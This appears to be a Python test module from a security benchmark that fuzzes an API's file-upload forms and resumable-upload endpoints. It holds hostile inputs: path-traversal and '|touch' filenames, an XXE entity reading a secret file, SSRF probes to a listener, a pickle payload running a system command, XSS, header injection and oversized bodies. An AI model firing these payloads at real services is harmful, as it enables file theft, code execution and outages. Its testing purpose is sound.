"""`/v1`: forms with files, and uploads in portions, that no client library would send."""

from __future__ import annotations

import base64
from collections.abc import Iterator, Mapping
from typing import TYPE_CHECKING

from benchmarks.attack.place import FORGED
from benchmarks.attack.victims import MARKER

if TYPE_CHECKING:
    from benchmarks.attack.api import Client

Headers = list[tuple[str, str | bytes]]

BOUNDARY = "a-boundary"

FORM: tuple[str, str] = ("Content-Type", f"multipart/form-data; boundary={BOUNDARY}")

TUS: tuple[str, str] = ("Tus-Resumable", "1.0.0")
PORTION: tuple[str, str] = ("Content-Type", "application/offset+octet-stream")

LENGTHS = (
    "", "-1", "0", "1.5", "1e3", "0x10", " 5", "5 5", "5,5", "+5", "５", "9" * 19, "9" * 400, "NaN",
)  # fmt: skip
"""Of uploads, and offsets in them."""


def attack(client: Client) -> None:
    """Send forms, then uploads."""
    ground = client.ground
    root = ground.place.root
    picture, sound = (root / "face.jpg").read_bytes(), (root / "voice.wav").read_bytes()
    for path, field, good in (
        ("/v1/avatars", "image", picture),
        ("/v1/voices", "sample", sound),
        ("/v1/recordings", "sound", sound),
        ("/v1/lectures", "image", picture),
    ):
        for label, body, headers in ground.some(_forms(field, good), 0.1):
            client.ask(f"{path}: {label}", "POST", path, body=body, headers=headers)
        for label, content in ground.some(_contents(client), 0.3):
            body, headers = form({field: content})
            answer = client.ask(f"{path}: {label}", "POST", path, body=body, headers=headers)
            ground.expect(f"{path}: {label}", answer, good=answer.refused)
    for label, method, target, portion, headers in ground.some(_uploads(client), 0.2):
        client.ask(label, method, target, body=portion, headers=headers)


def form(files: Mapping[str, bytes], **fields: str) -> tuple[bytes, Headers]:
    """An honest one: its body and its headers."""
    parts = [_part(f'name="{name}"; filename="{name}.bin"', files[name]) for name in files]
    parts += [_part(f'name="{name}"', value.encode()) for name, value in fields.items()]
    return b"".join(parts) + _END, [FORM]


def an_upload(client: Client) -> str:
    """Name of one that waits for its bytes."""
    headers: Headers = [TUS, ("Upload-Length", "1000")]
    answer = client.ask("an honest upload", "POST", "/v1/uploads", headers=headers)
    location = next(
        line
        for line in answer.head.decode("latin-1").splitlines()
        if line.lower().startswith("loc")
    )
    return location.rpartition("/")[2]


def _part(disposition: str, content: bytes, more: bytes = b"") -> bytes:
    head = f"--{BOUNDARY}\r\nContent-Disposition: form-data; {disposition}\r\n"
    return head.encode() + more + b"\r\n" + content + b"\r\n"


_END = f"--{BOUNDARY}--\r\n".encode()


def _forms(field: str, good: bytes) -> Iterator[tuple[str, bytes, Headers]]:
    named = f'name="{field}"'
    whole = _part(f'{named}; filename="a.bin"', good) + _END
    for label, content_type in (
        ("no boundary", "multipart/form-data"),
        ("an empty boundary", "multipart/form-data; boundary="),
        ("another boundary", "multipart/form-data; boundary=other"),
        ("a long boundary", "multipart/form-data; boundary=" + "a" * 3000),
        ("two boundaries", f"multipart/form-data; boundary=x; boundary={BOUNDARY}"),
        ("a boundary in quotes", f'multipart/form-data; boundary="{BOUNDARY}'),
        ("another kind of it", f"multipart/mixed; boundary={BOUNDARY}"),
        ("in UTF-16", f"multipart/form-data; charset=utf-16; boundary={BOUNDARY}"),
    ):
        yield label, whole, [("Content-Type", content_type)]
    for label, body in (
        ("not ended", whole[: -len(_END)]),
        ("ended in its head", whole[:60]),
        ("only an end", _END),
        ("nothing", b""),
        ("line ends alone", b"\r\n" * 100_000),
        ("something before and behind", b"x" * 5000 + b"\r\n" + whole + b"x" * 5000),
        ("no CR", whole.replace(b"\r\n", b"\n", 3)),
        ("10,000 parts", _part('name="tags"', b"a") * 10_000 + _END),
        ("10,000 files", _part(f'{named}; filename="a"', b"a") * 10_000 + _END),
        ("10,000 parts without a name", _part("x", b"a") * 10_000 + _END),
        ("a head of 300 kB", _part(named, good[:9], b"X-A: " + b"a" * 300_000 + b"\r\n") + _END),
        ("20,000 lines of a head", _part(named, b"a", b"X-A: a\r\n" * 20_000) + _END),
        ("a head without an end", f"--{BOUNDARY}\r\n".encode() + b"a" * 500_000),
        ("a part in a part", _part(named, whole, b"Content-Type: multipart/mixed\r\n") + _END),
        ("a field of 500 kB", _part('name="name"', b"a" * 500_000) + whole),
        ("a field for a file", _part(named, good) + _END),
        ("a file for a field", _part('name="name"; filename="a"', good) + whole),
        ("base 64", _part(named, good, b"Content-Transfer-Encoding: base64\r\n") + _END),
        (
            "its field in UTF-7",
            _part('name="name"', b"+AHs-", b"Content-Type: a; charset=utf-7\r\n"),
        ),
        ("a name that is no text", _part('name="name"', b"\xff\xfe\x00") + whole),
        ("half a character", _part('name="name"', b"\xed\xa0\x80") + whole),
        ("twice", _part(f'{named}; filename="a"', good) + whole),
    ):
        yield label, body, [FORM]
    for name in (
        "../../../etc/passwd", "/etc/passwd", "..\\..\\x", "a\0b", "", ".", "..", "a" * 5000,
        "con", "a.jpg;b", "%s%n", "a%0d%0ab", f"x{FORGED}", "file:///etc/passwd", "|touch /tmp/x",
    ):  # fmt: skip
        file = _part(f'{named}; filename="{name}"', good)
        yield f"a file called {name[:30]!r}", file + _END, [FORM]
    star = _part(f"{named}; filename*=utf-16''%2e%2e%2fx; filename*0=a; filename*1=b", good)
    yield "a name in parts", star + _END, [FORM]
    yield "sent as gzip", whole, [FORM, ("Content-Encoding", "gzip")]
    yield "far too long, by its head", b"", [FORM, ("Content-Length", "9" * 15)]


def _contents(client: Client) -> Iterator[tuple[str, bytes]]:
    """Files that are of no kind that is taken, though they would like to be."""
    secret, url = client.ground.outside.secret, client.ground.listener.url
    yield "nothing", b""
    yield "a page", b"<html><script>alert(1)</script>"
    yield "a text", MARKER[:4].encode() * 1000
    yield "a playlist", f"#EXTM3U\n#EXTINF:1,\n{url}/a.wav\n{secret}\n".encode()
    yield "a list of files", f"ffconcat version 1.0\nfile {secret}\n".encode()
    yield "SVG", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/x"/></svg>'.encode()
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]><svg>&e;</svg>'
    yield "SVG with an entity", entity.encode()
    yield "MVG", f"push graphic-context\nimage over 0,0 0,0 '{url}/x'\n".encode()
    yield "an archive", b"PK\x03\x04" + b"\0" * 500
    yield "a pickle", b"cos\nsystem\n(S'id'\ntR."
    yield "a JPEG's first bytes", b"\xff\xd8\xff\xe0" + b"\0" * 3000
    yield (
        "a PNG of 60,000 by 60,000",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\xea\x60\0\0\xea\x60\x08\6",
    )
    yield (
        "a WAV of 4 GB by its head",
        b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\1\0\1\0" + b"\xff" * 40,
    )


def _uploads(client: Client) -> Iterator[tuple[str, str, str, bytes | None, Headers]]:
    for length in LENGTHS:
        headers: Headers = [TUS, ("Upload-Length", length)]
        yield f"an upload of {length[:20]!r}", "POST", "/v1/uploads", None, headers
    for told in (
        "filename", "filename =", "filename !!!", "filename " + "A" * 6000, "a b,a b", ",", ",,,,",
        "filename " + base64.b64encode(b"../../etc/passwd").decode(),
        "filename " + base64.b64encode(b"a\0b\r\nX-Injected: 1").decode(),
        "filename " + base64.b64encode(b"\xff\xfe").decode(), "\xe9 eA==", "x " * 3000,
    ):  # fmt: skip
        described: Headers = [
            TUS,
            ("Upload-Length", "9"),
            ("Upload-Metadata", told.encode("latin-1")),
        ]
        yield f"an upload described {told[:30]!r}", "POST", "/v1/uploads", None, described
    small: Headers = [TUS, ("Upload-Length", "9")]
    for name, value in (
        ("Upload-Defer-Length", "1"), ("Upload-Concat", "partial"),
        ("Upload-Concat", "final;/v1/uploads/a /etc/passwd"), ("Upload-Checksum", "md5 eA=="),
        ("Upload-Checksum", "sha1"), ("Tus-Resumable", "9.9.9"), ("Content-Encoding", "gzip"),
    ):  # fmt: skip
        yield (
            f"an upload with {name}: {value}",
            "POST",
            "/v1/uploads",
            None,
            [*small, (name, value)],
        )
    yield "more than it has", "POST", "/v1/uploads", b"a" * 100, [*small, PORTION]
    waiting = f"/v1/uploads/{an_upload(client)}"
    for offset in LENGTHS:
        headers = [TUS, PORTION, ("Upload-Offset", offset)]
        yield f"a portion at {offset[:20]!r}", "PATCH", waiting, b"a", headers
    at_first = ("Upload-Offset", "0")
    yield "a portion too long", "PATCH", waiting, b"a" * 2000, [TUS, PORTION, at_first]
    yield (
        "a portion of 15 digits",
        "PATCH",
        waiting,
        b"a",
        [
            *(TUS, PORTION, at_first),
            ("Content-Length", "9" * 15),
        ],
    )
    for method in ("PATCH", "HEAD", "DELETE", "TRACE", "a" * 500, "GET /v1", ""):
        headers = [TUS, ("X-HTTP-Method-Override", method)]
        yield f"another method {method[:20]!r}", "POST", waiting, b"", headers
    for path in ("/v1/uploads/..", "/v1/uploads/%2e%2e%2fjobs.db", "/v1/uploads/upl_" + "a" * 500):
        for method in ("HEAD", "PATCH", "DELETE"):
            yield f"{method} {path[:40]}", method, path, None, [TUS, PORTION, at_first]
